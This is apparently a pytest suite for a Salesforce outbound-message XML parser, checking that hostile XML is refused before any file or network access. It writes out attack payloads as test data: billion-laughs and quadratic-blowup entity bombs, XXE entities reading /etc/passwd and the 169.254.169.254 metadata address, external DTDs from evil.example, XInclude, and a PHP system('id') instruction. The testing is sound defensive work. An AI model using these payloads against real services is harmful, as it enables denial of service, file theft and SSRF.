"""Hostile XML is refused before it can expand, reach a file or the network (DESIGN §8).

No test here measures time (DESIGN §9): "refused quickly" is shown by the refusal happening at the
DTD, before any entity is declared, let alone expanded.
"""

from __future__ import annotations

import builtins
import io
import os
import socket
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, NoReturn

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dealbridge.connectors.salesforce import outbound
from dealbridge.connectors.salesforce.outbound import (
    HOSTILE_XML_MESSAGE,
    build_soap_fault,
    parse_outbound_message,
)
from dealbridge.errors import WebhookError

from .samples import CONTRACT_SAMPLE, ORG_ID, envelope, notification

SECRET = "dealbridge-test-secret-7f3a"


def _no_io(*_args: Any, **_kwargs: Any) -> NoReturn:
    raise AssertionError("the parser tried to open a file or a connection")


@contextmanager
def no_io() -> Iterator[None]:
    """Any file or network access inside the block fails the test."""
    with pytest.MonkeyPatch.context() as patch:
        for owner, name in [
            (builtins, "open"),
            (io, "open"),
            (os, "open"),
            (socket, "create_connection"),
            (socket.socket, "connect"),
            (urllib.request, "urlopen"),
        ]:
            patch.setattr(owner, name, _no_io)
        yield


def refuse(body: bytes, **kwargs: Any) -> WebhookError:
    """Parse, with file and network access forbidden, expecting a refusal."""
    kwargs.setdefault("allowed_org_ids", [ORG_ID])
    with no_io(), pytest.raises(WebhookError) as caught:
        parse_outbound_message(body, **kwargs)
    return caught.value


def with_doctype(doctype: str, reference: str = "&x;") -> bytes:
    """The contract sample with a DOCTYPE in front and ``reference`` in a field."""
    text = CONTRACT_SAMPLE.decode().replace("Closed Won", reference)
    return f'<?xml version="1.0"?>\n{doctype}\n{text}'.encode()


@pytest.fixture
def secret_file(tmp_path: Path) -> str:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path.as_uri()


def _billion_laughs() -> str:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE lolz [{''.join(entities)}]>"


@pytest.mark.parametrize(
    ("doctype", "reference"),
    [
        pytest.param(_billion_laughs(), "&lol9;", id="billion-laughs"),
        pytest.param(
            '<!DOCTYPE q [<!ENTITY a "' + "a" * 50_000 + '">]>',
            "&a;" * 5_000,
            id="quadratic-blowup",
        ),
        pytest.param(
            '<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;", id="xxe-file"
        ),
        pytest.param(
            '<!DOCTYPE e [<!ENTITY x SYSTEM "http://169.254.169.254/latest/">]>',
            "&x;",
            id="xxe-http",
        ),
        pytest.param(
            '<!DOCTYPE e [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', "ok", id="param"
        ),
        pytest.param(
            '<!DOCTYPE soapenv:Envelope SYSTEM "http://evil.example/soap.dtd">',
            "ok",
            id="extern-dtd",
        ),
        pytest.param(
            '<!DOCTYPE e PUBLIC "-//E//DTD E//EN" "file:///etc/passwd">', "ok", id="public-dtd"
        ),
        pytest.param("<!DOCTYPE soapenv:Envelope>", "ok", id="empty-doctype"),
    ],
)
def test_a_dtd_is_refused_before_anything_is_declared(doctype: str, reference: str) -> None:
    error = refuse(with_doctype(doctype, reference))

    assert error.status == 400
    assert error.message.startswith(HOSTILE_XML_MESSAGE)


def test_an_external_entity_never_reads_the_file(secret_file: str) -> None:
    body = with_doctype(f'<!DOCTYPE e [<!ENTITY x SYSTEM "{secret_file}">]>')
    error = refuse(body)

    assert error.message.startswith(HOSTILE_XML_MESSAGE)
    assert SECRET not in repr(error.as_dict())


def test_an_entity_without_a_dtd_is_malformed() -> None:
    body = CONTRACT_SAMPLE.replace(b"Closed Won", b"&xxe;")
    error = refuse(body)
    assert error.status == 400
    assert "malformed XML at line" in error.message
    assert "undefined entity" in error.message


def test_xinclude_is_refused(secret_file: str) -> None:
    xinclude = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    include = f'<xi:include {xinclude} href="{secret_file}" parse="text"/>'
    body = envelope(notification(f"<sf:Id>0065w000023STAmAAO</sf:Id>{include}"))
    error = refuse(body)

    assert error.status == 400
    assert "XInclude is not allowed" in error.message
    assert SECRET not in error.message


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            envelope(
                notification(),
                prolog='<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>',
            ),
            id="stylesheet-in-prolog",
        ),
        pytest.param(
            envelope(notification("<sf:Id>0065w000023STAmAAO</sf:Id><?php system('id'); ?>")),
            id="pi-in-sobject",
        ),
        pytest.param(CONTRACT_SAMPLE + b"<?trailer?>", id="pi-after-root"),
    ],
)
def test_processing_instructions_are_refused(body: bytes) -> None:
    error = refuse(body)
    assert error.status == 400
    assert "processing instructions are not allowed" in error.message


def test_the_xml_declaration_is_not_a_processing_instruction() -> None:
    body = b'<?xml version="1.0" encoding="UTF-8"?>\n' + CONTRACT_SAMPLE
    assert parse_outbound_message(body, allowed_org_ids=[ORG_ID]).notifications


def test_an_oversized_body_is_never_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(outbound, "DefusedXMLParser", _no_io)
    huge_attribute = CONTRACT_SAMPLE.replace(
        b"<sf:IsWon>", b'<sf:IsWon a="' + b"A" * 2_000_000 + b'">'
    )

    assert refuse(huge_attribute).status == 413


def test_a_large_attribute_under_the_cap_is_just_data() -> None:
    body = CONTRACT_SAMPLE.replace(b"<sf:IsWon>", b'<sf:IsWon a="' + b"A" * 500_000 + b'">')
    assert parse_outbound_message(body, allowed_org_ids=[ORG_ID]).notifications[0].fields["IsWon"]


@pytest.mark.parametrize("encoding", ["bogus", "shift_jis", "utf-7", "idna", "rot13"])
def test_unsupported_encodings_are_refused(encoding: str) -> None:
    body = f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + CONTRACT_SAMPLE
    error = refuse(body)
    assert error.status == 400
    assert "encoding" in error.message


def test_deep_nesting_is_refused_without_recursion() -> None:
    deep = "<sf:Id>0065w000023STAmAAO</sf:Id><sf:A>" + "<sf:A>" * 50_000 + "</sf:A>" * 50_001
    assert "nested elements" in refuse(envelope(notification(deep))).message


# --- arbitrary input never escapes as anything but WebhookError -------------------------------


def assert_only_webhook_errors(body: bytes) -> None:
    refusal: WebhookError | None = None
    try:
        parse_outbound_message(body, allowed_org_ids=[ORG_ID])
    except WebhookError as error:
        refusal = error
    if refusal is not None:
        assert refusal.status in (400, 403, 413)
        build_soap_fault(refusal.message)  # every refusal can be answered


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048))
def test_arbitrary_bytes_only_raise_webhook_error(body: bytes) -> None:
    assert_only_webhook_errors(body)


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(
    st.integers(min_value=0, max_value=len(CONTRACT_SAMPLE)),
    st.integers(min_value=0, max_value=200),
    st.binary(max_size=64),
)
def test_corrupted_messages_only_raise_webhook_error(start: int, cut: int, insert: bytes) -> None:
    assert_only_webhook_errors(CONTRACT_SAMPLE[:start] + insert + CONTRACT_SAMPLE[start + cut :])


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=200))
def test_arbitrary_field_text_only_raises_webhook_error(text: str) -> None:
    field = text.replace("&", "&amp;").replace("<", "&lt;")
    body = envelope(
        notification(f"<sf:Id>0065w000023STAmAAO</sf:Id><sf:Amount>{field}</sf:Amount>")
    )
    assert_only_webhook_errors(body.decode("utf-8", "surrogatepass").encode("utf-8", "replace"))
